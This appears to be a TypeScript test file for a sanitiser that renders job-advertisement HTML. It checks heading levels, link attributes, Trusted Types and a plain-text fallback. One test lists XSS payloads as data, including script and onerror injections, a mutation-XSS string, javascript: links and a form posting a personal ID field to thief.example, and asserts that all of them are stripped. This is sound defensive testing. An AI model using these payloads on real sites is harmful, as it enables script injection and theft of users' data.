import { expect } from '../../testing/testing.ts';
import { policyName } from './html-policy.ts';
import { plainText } from './plain-text.ts';
import { richText } from './rich-text.ts';

const shown = (html: string, below?: number): HTMLElement => {
  const element = document.createElement('div');
  element.append(richText(html, below));
  return element;
};

describe('the text of an advertisement', () => {
  it('keeps words, lists, tables and links', () => {
    const words =
      '<p>Vi <strong>søger</strong></p><ul><li>dig</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>';
    expect(shown(words).innerHTML).to.equal(words);
  });

  it('loses everything that runs, fetches, asks or dresses up', () => {
    const hostile = [
      '<script>globalThis.harmed = true</script>',
      '<img src=x onerror="globalThis.harmed = true">',
      '<svg><script>globalThis.harmed = true</script></svg>',
      '<math><mtext></mtext><style><img src=x onerror=globalThis.harmed=true></style></math>',
      '<iframe srcdoc="<script>parent.harmed = true</script>"></iframe>',
      '<form action="https://thief.example"><input name="cpr"><button>Send</button></form>',
      '<p style="position:fixed;inset:0" class="x" id="found" onclick="harmed=1">rest</p>',
      '<a href="javascript:globalThis.harmed=true">link</a>',
      '<a href="data:text/html,x">link</a>',
      '<link rel="stylesheet" href="https://thief.example/x.css"><meta http-equiv="refresh" content="0">',
      '<ju-button>x</ju-button><template><p>x</p></template>',
    ].join('');
    const element = shown(hostile);
    document.body.append(element);
    expect(
      element.querySelectorAll(
        'script,img,svg,math,iframe,form,input,button,style,link,meta,template,ju-button',
      ),
    ).to.have.length(0);
    for (const each of element.querySelectorAll('*')) {
      const names = each.getAttributeNames().filter((name) => !['rel', 'target'].includes(name));
      expect(names, each.outerHTML).to.deep.equal([]);
    }
    expect((globalThis as { harmed?: boolean }).harmed).to.equal(undefined);
    element.remove();
  });

  it('opens links elsewhere, and tells the other side nothing', () => {
    const links = shown(
      '<a href="https://job.example/1">A</a><a href="mailto:job@job.example">B</a>',
    );
    const [web, mail] = links.querySelectorAll('a');
    expect(web).to.include({ target: '_blank', rel: 'noopener noreferrer nofollow' });
    expect(mail?.target).to.equal('');
  });

  it('puts its headings under the one it stands below, without gaps', () => {
    const element = shown('<h1>Om os</h1><h4>Kantinen</h4><h1>Løn</h1>', 3);
    expect([...element.children].map(({ localName }) => localName)).to.deep.equal([
      'h4',
      'h5',
      'h4',
    ]);
    expect(shown('<h1>a</h1><h2>b</h2>', 6).querySelectorAll('h6')).to.have.length(2);
  });

  it('asks Trusted Types for the one policy that is documented, and violates nothing', async () => {
    const frame = document.createElement('iframe');
    const module = new URL('./rich-text.ts', import.meta.url).href;
    frame.srcdoc = `<meta http-equiv="content-security-policy"
        content="require-trusted-types-for 'script'; trusted-types ${policyName}"><body><script type="module">
        const told = [];
        document.addEventListener('securitypolicyviolation', (event) => told.push(event.violatedDirective));
        try { document.body.innerHTML = 'x' } catch { told.push('enforced') }
        const { richText } = await import('${module}');
        document.body.append(richText('<p onclick="x()">Natarbejde</p>'), richText('<p>Dagarbejde</p>'));
        await new Promise((resolve) => setTimeout(resolve, 50));
        parent.postMessage([document.querySelector('p').outerHTML, ...told], '*');
      </script></body>`;
    const told = new Promise((resolve) => {
      addEventListener('message', ({ data }) => resolve(data), { once: true });
    });
    document.body.append(frame);
    // The first two are the proof that the frame enforces; nothing of ours comes after them.
    expect(await told).to.deep.equal([
      '<p>Natarbejde</p>',
      'enforced',
      'require-trusted-types-for',
    ]);
    frame.remove();
  });

  it('reads as plain text where HTML cannot be shown', () => {
    expect(
      plainText('<h2>Om os</h2><p>Fisk &amp; skaldyr<br>s&#248;ges</p><script>x()</script>'),
    ).to.equal('Om os\nFisk & skaldyr\nsøges');
    expect(plainText('2 < 3 &constructor; &#99999999;')).to.contain('&constructor;');
  });
});
